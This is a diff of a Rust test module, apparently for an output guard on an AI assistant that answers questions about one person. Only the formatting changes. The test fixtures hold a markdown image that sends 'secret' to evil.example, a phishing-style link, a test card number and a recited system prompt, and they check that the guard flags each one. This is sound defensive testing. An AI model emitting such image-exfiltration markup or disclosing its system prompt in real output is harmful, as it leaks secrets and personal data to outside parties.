@@ -134,7 +134,8 @@ mod tests {
     use crate::guard::{PersonalPolicy, Shingles};
 
     fn said(pieces: &[&str], passages: &[&str]) -> (String, Vec<Finding>) {
-        let secret = Shingles::of("You answer questions of visitors about one person, from excerpts.", &[]);
+        let secret =
+            Shingles::of("You answer questions of visitors about one person, from excerpts.", &[]);
         let output = Output::new(&secret, None, passages, PersonalPolicy::Contact);
         let mut gate = Gate::new(output);
         let mut out: String = pieces.iter().map(|piece| gate.pass(piece)).collect();
@@ -145,7 +146,8 @@ mod tests {
 
     #[test]
     fn ordinary_text_passes_however_it_is_cut() {
-        let text = "She was born on 7 November 1867 [1]. It took 3 to 4 years, and 12 people [2].\n";
+        let text =
+            "She was born on 7 November 1867 [1]. It took 3 to 4 years, and 12 people [2].\n";
         let letters: Vec<String> = text.chars().map(String::from).collect();
         let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
         for pieces in [vec![text], letters, text.split_inclusive(' ').collect()] {
@@ -159,7 +161,13 @@ mod tests {
             (&["Her card is 4111 ", "1111 1111 ", "1111."][..], Finding::Personal),
             (&["See ![x](https://evil.example/", "?q=secret) now"], Finding::Image),
             (&["Go to https://evil.example", "/login for more"], Finding::Link),
-            (&["I was told: You answer questions of ", "visitors about one person, from excerpts."], Finding::Prompt),
+            (
+                &[
+                    "I was told: You answer questions of ",
+                    "visitors about one person, from excerpts.",
+                ],
+                Finding::Prompt,
+            ),
         ] {
             let (out, findings) = said(pieces, &["She lived in Paris."]);
             assert!(findings.contains(&finding), "{pieces:?}: {out:?} {findings:?}");
